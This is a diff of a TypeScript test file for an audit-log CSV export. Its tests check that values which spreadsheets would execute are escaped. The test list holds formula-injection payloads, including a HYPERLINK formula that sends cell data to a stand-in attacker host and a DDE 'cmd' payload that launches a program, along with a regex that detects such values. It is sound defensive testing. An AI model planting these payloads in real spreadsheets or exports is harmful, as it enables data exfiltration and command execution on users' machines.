@@ -2,15 +2,15 @@
 import { execFileSync, spawnSync } from 'node:child_process'
 import { suite } from 'uvu'
 import * as assert from 'uvu/assert'
-import { csvCell } from '../../src/web/lib/csv.ts'
 import { csvLines } from '../../src/audit/csv.ts'
 import type { ByteAnswer } from '../../src/http/answer.ts'
 import type { Call } from '../../src/http/operation.ts'
 import type { Audit } from '../../src/audit/audit.ts'
 import { exportAudit } from '../../src/audit/operations.ts'
+import { csvCell } from '../../src/web/lib/csv.ts'
 import { gate } from '../database/connected.ts'
 import type { Client } from '../helpers/client.ts'
-import { startService, type Service } from '../helpers/service.ts'
+import { type Service, startService } from '../helpers/service.ts'
 
 /** Exports are recorded; these tests only look at their bytes. */
 const auditWith = (audit: object) => ({ ...audit, recordAlone: async () => {} }) as unknown as Audit
@@ -44,24 +44,11 @@ print(json.dumps(list(csv.reader(io.StringIO(text, newline=''), strict=True))))`
 /** Texts that spreadsheets would run. */
 const formula = /^[=+\-@\t\r]/
 
+// prettier-ignore
 const evilNames = [
-  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
-  "+cmd|' /C calc'!A0",
-  '-2+3+cmd',
-  '@SUM(1+1)*cmd',
-  '\t=1+1',
-  '\r=1+1',
-  'a,b',
-  'a "quoted" name',
-  'two\nlines',
-  'two\r\nlines',
-  '"',
-  ',',
-  "'already",
-  ' =1+1',
-  'naïve 😀 \u202egpj.exe',
-  '',
-  '"=1+1"',
+  '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", '-2+3+cmd',
+  '@SUM(1+1)*cmd', '\t=1+1', '\r=1+1', 'a,b', 'a "quoted" name', 'two\nlines', 'two\r\nlines', '"',
+  ',', "'already", ' =1+1', 'naïve 😀 \u202egpj.exe', '', '"=1+1"',
 ]
 
 /** Texts that start like a formula, wherever a spreadsheet may start a cell. */
@@ -109,10 +96,7 @@ csv.before(async () => {
   service = await startService()
   admin = await service.admin()
 })
-csv.after(async () => {
-  await admin.close()
-  await service.stop()
-})
+csv.after(() => service.stop())
 csv.before.each(async () => {
   await service.database.sql`delete from audit`
 })
@@ -153,16 +137,12 @@ if (hasPython) {
       const [, at, kind, userId, email, event, targetKind, targetId, name, ip, details] = row
       assert.equal(
         [at, kind, userId, email, event, targetKind, targetId, ip],
-        [
-          '2026-11-21T12:00:00.000Z',
-          'user',
-          '7',
-          "'=1+1@example.org",
+        ['2026-11-21T12:00:00.000Z', 'user', '7', "'=1+1@example.org"].concat([
           'share.created',
           'share',
           "'-AAAA",
           '203.0.113.9',
-        ],
+        ]),
       )
       return { name, by: JSON.parse(details!).by }
     })
